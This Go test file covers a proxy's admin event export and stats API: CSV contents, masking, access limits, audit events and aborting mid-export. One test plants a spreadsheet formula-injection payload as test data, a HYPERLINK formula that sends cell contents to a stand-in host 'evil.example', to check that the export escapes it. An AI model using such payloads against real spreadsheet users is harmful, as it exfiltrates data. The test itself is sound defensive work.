package admin

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-proxy/gatehouse/internal/activity"
)

// csvRows parses an export, checking its header.
func csvRows(t *testing.T, w *httptest.ResponseRecorder) [][]string {
	t.Helper()
	if w.Code != 200 {
		t.Fatalf("export = %d %.300s", w.Code, w.Body)
	}
	if ct := w.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Fatalf("Content-Type = %q", ct)
	}
	r := csv.NewReader(bytes.NewReader(w.Body.Bytes()))
	r.FieldsPerRecord = len(activity.CSVColumns)
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("reading export: %v", err)
	}
	if !slices.Equal(recs[0], activity.CSVColumns) {
		t.Fatalf("header = %q", recs[0])
	}
	return recs[1:]
}

func column(rows [][]string, name string) []string {
	i := slices.Index(activity.CSVColumns, name)
	var out []string
	for _, r := range rows {
		out = append(out, r[i])
	}
	return out
}

// Issue 8, item 3: the export has every matching row (past one page of
// the store), the same rows the API lists for the filter, and writes an
// admin_export event naming the actor and the filter.
func TestEventsCSV(t *testing.T) {
	e := newEnv(t)
	for i := range activity.MaxLimit + 10 {
		e.rt.Record(context.Background(), activity.Event{Time: epoch.Add(-time.Duration(i) * time.Second),
			Type: activity.AccessDenied, Site: siteA, IP: fmt.Sprintf("192.0.2.%d", i%250)})
	}
	w := e.do(req{as: e.alice, method: "GET", path: "/api/events.csv?type=access_denied&ip=192.0.2."})
	rows := csvRows(t, w)
	if len(rows) != activity.MaxLimit+10 {
		t.Fatalf("export has %d rows, want %d", len(rows), activity.MaxLimit+10)
	}
	if cd := w.Header().Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") {
		t.Errorf("Content-Disposition = %q", cd)
	}
	// The same ids, in the same order, as the API's pages.
	var api []string
	cursor := ""
	for {
		lw := e.do(req{as: e.alice, method: "GET", path: "/api/events?type=access_denied&ip=192.0.2.&limit=1000&cursor=" + cursor})
		l := decode[struct {
			Items []activity.Event `json:"items"`
			Next  string           `json:"next_cursor"`
		}](t, lw)
		for _, it := range l.Items {
			api = append(api, it.ID)
		}
		if l.Next == "" {
			break
		}
		cursor = l.Next
	}
	if got := column(rows, "id"); !slices.Equal(got, api) {
		t.Errorf("export ids differ from the API's: %d vs %d", len(got), len(api))
	}

	ex := e.events(activity.AdminExport)
	if len(ex) != 1 {
		t.Fatalf("%d admin_export events, want 1", len(ex))
	}
	if ex[0].Actor != "alice@example.com" || ex[0].Site != siteA || ex[0].Detail != "events.csv?ip=192.0.2.&type=access_denied" {
		t.Errorf("admin_export = actor %q site %q detail %q", ex[0].Actor, ex[0].Site, ex[0].Detail)
	}
}

// Issue 8, item 3: hostile values reach the file as text, and mask=true
// leaves no email or full address in it.
func TestEventsCSVHostileAndMasked(t *testing.T) {
	e := newEnv(t)
	hostile := `=HYPERLINK("http://evil.example/?"&A1,"click"), "quoted"` + "\n+next line\t@x"
	e.rt.Record(context.Background(), activity.Event{Time: epoch, Type: activity.LoginFailed, Site: siteA,
		User: hostile, Email: "-eve@example.com", Reason: "@SUM(1)", Device: "\tTab", City: "\rCR", IP: "203.0.113.200"})

	rows := csvRows(t, e.do(req{as: e.alice, method: "GET", path: "/api/events.csv?type=login_failed"}))
	if len(rows) != 1 {
		t.Fatalf("%d rows, want 1", len(rows))
	}
	for name, want := range map[string]string{"user": "'" + hostile, "email": "'-eve@example.com", "reason": "'@SUM(1)",
		"device": "'\tTab", "city": "'\rCR"} {
		if got := column(rows, name)[0]; got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}

	w := e.do(req{as: e.alice, method: "GET", path: "/api/events.csv?mask=true"})
	body := w.Body.String()
	for _, secret := range []string{"alice@", "bob@", "eve@", "203.0.113.200", "203.0.113.10", "192.0.2.20"} {
		if strings.Contains(body, secret) {
			t.Errorf("masked export contains %q", secret)
		}
	}
	rows = csvRows(t, w)
	if !slices.Contains(column(rows, "ip"), "203.0.113.0/24") {
		t.Errorf("masked ips = %q, want the /24", column(rows, "ip"))
	}
	ex := e.events(activity.AdminExport)
	if len(ex) != 2 || ex[0].Detail != "events.csv?mask=true" {
		t.Errorf("admin_export events = %+v, want the masked one first", ex)
	}
	if w := e.do(req{as: e.alice, method: "GET", path: "/api/events.csv?mask=yes"}); w.Code != 400 {
		t.Errorf("mask=yes = %d, want 400", w.Code)
	}
}

// An export covers only the viewer's reach, as the listing does; a
// non-admin gets none, and a refused export is not logged as one.
func TestEventsCSVReach(t *testing.T) {
	e := newReachEnv(t)
	rows := csvRows(t, e.do(e.onA("GET", "/api/events.csv?type=login_succeeded")))
	for _, site := range column(rows, "site") {
		if site != siteA {
			t.Fatalf("an admin of %s exported an event of %s", siteA, site)
		}
	}
	if len(rows) != 5 {
		t.Errorf("%d rows, want siteA's 5 sign-ins", len(rows))
	}
	if rows := csvRows(t, e.do(e.onA("GET", "/api/events.csv?site="+siteB))); len(rows) != 0 {
		t.Errorf("site beyond the reach gave %d rows", len(rows))
	}
	before := len(e.events(activity.AdminExport))
	if w := e.do(req{as: e.bob, method: "GET", path: "/api/events.csv"}); w.Code != 403 {
		t.Errorf("non-admin export = %d, want 403", w.Code)
	}
	if w := e.do(req{as: e.alice, method: "GET", path: "/api/events.csv?limit=abc"}); w.Code != 400 {
		t.Errorf("bad filter = %d, want 400", w.Code)
	}
	if n := len(e.events(activity.AdminExport)); n != before {
		t.Errorf("refused exports wrote %d admin_export events", n-before)
	}
}

// The Caddy admin endpoint exports as "system" and answers stats.
func TestAdminEndpointCSVAndStats(t *testing.T) {
	e := newEnv(t)
	w := httptest.NewRecorder()
	e.api.ServeHTTP(w, httptest.NewRequest("GET", "/gatehouse/events.csv?type=login_succeeded", nil))
	if rows := csvRows(t, w); len(rows) != 5 {
		t.Errorf("%d rows, want 5", len(rows))
	}
	if ex := e.events(activity.AdminExport); len(ex) != 1 || ex[0].Actor != activity.ActorSystem {
		t.Errorf("admin_export events = %+v", ex)
	}
	w = httptest.NewRecorder()
	e.api.ServeHTTP(w, httptest.NewRequest("GET", "/gatehouse/stats?bucket=1d", nil))
	st := decode[statsOut](t, w)
	total := 0
	for _, b := range st.Buckets {
		total += b.LoginSucceeded
	}
	if w.Code != 200 || st.Bucket != "24h0m0s" || len(st.Buckets) < 7 || total != 5 {
		t.Errorf("stats = %d %+v, want 7+ daily buckets holding 5 sign-ins", w.Code, st)
	}
}

func TestStatsAPI(t *testing.T) {
	e := newEnv(t)
	w := e.do(req{as: e.alice, method: "GET", path: "/api/stats?from=2025-03-13&to=2025-03-14T12:00:00Z&bucket=1h"})
	st := decode[statsOut](t, w)
	// 36 hours, and the instant of to (inclusive) starts a 37th.
	if w.Code != 200 || len(st.Buckets) != 37 {
		t.Fatalf("stats = %d, %d buckets, want 200 and 37", w.Code, len(st.Buckets))
	}
	var got []int
	for _, b := range st.Buckets {
		got = append(got, b.LoginSucceeded)
	}
	// newEnv's sign-ins: 2h, 26h, 30m, 72h (outside) and 5h before epoch.
	want := make([]int, 37)
	// Bucket i starts at 00:00 on the 13th plus i hours.
	want[24+11]++ // 30m ago: 11:30
	want[24+10]++ // 2h ago: 10:00
	want[24+7]++  // 5h ago: 07:00
	want[10]++    // 26h ago: 10:00 the day before
	if !slices.Equal(got, want) {
		t.Errorf("sign-ins per hour = %v\nwant                %v", got, want)
	}
	for _, q := range []string{"bucket=1m", "bucket=2d", "bucket=90s", "bucket=x", "from=2025-01-01&bucket=5m", "to=2020-01-01&from=2021-01-01"} {
		if w := e.do(req{as: e.alice, method: "GET", path: "/api/stats?" + q}); w.Code != 400 {
			t.Errorf("stats?%s = %d, want 400", q, w.Code)
		}
	}
	if w := e.do(req{as: e.bob, method: "GET", path: "/api/stats"}); w.Code != 403 {
		t.Errorf("non-admin stats = %d, want 403", w.Code)
	}
}

// statsOut is statsJSON as a client reads it.
type statsOut struct {
	From, To time.Time
	Bucket   string
	Buckets  []activity.Counts `json:"items"`
}

// failAfter is the test backend whose event queries fail after the first.
type failAfter struct {
	*backend
	calls int
}

func (f *failAfter) Events(ctx context.Context, fl activity.Filter) (activity.Page, error) {
	f.calls++
	if f.calls > 1 {
		return activity.Page{}, fmt.Errorf("dialing: %w", context.DeadlineExceeded)
	}
	return f.backend.Events(ctx, fl)
}

// ExportEvents pages through Events, so that its failure reaches the
// export (the embedded backend's own one-pass export would bypass it).
func (f *failAfter) ExportEvents(ctx context.Context, fl activity.Filter, each func(*activity.Event) error) error {
	return activity.Pages(ctx, f.Events, fl, each)
}

// A store failure after the first rows have gone out must not leave a
// file that looks complete: the handler breaks the connection
// (http.ErrAbortHandler), the only signal left once the status is sent.
func TestEventsCSVAbortsMidway(t *testing.T) {
	e := newEnv(t)
	for i := range activity.MaxLimit + 1 {
		e.rt.Record(context.Background(), activity.Event{Time: epoch.Add(-time.Duration(i) * time.Second), Type: activity.AccessDenied, Site: siteA})
	}
	api := NewAPI(&failAfter{backend: e.b}, "/gatehouse")
	w := httptest.NewRecorder()
	defer func() {
		if r := recover(); r != http.ErrAbortHandler {
			t.Fatalf("recovered %v, want http.ErrAbortHandler", r)
		}
		if w.Code != 200 || !strings.Contains(w.Body.String(), "access_denied") {
			t.Errorf("first page not sent: %d", w.Code)
		}
	}()
	api.ServeHTTP(w, httptest.NewRequest("GET", "/gatehouse/events.csv?type=access_denied", nil))
	t.Fatal("the export ended normally")
}
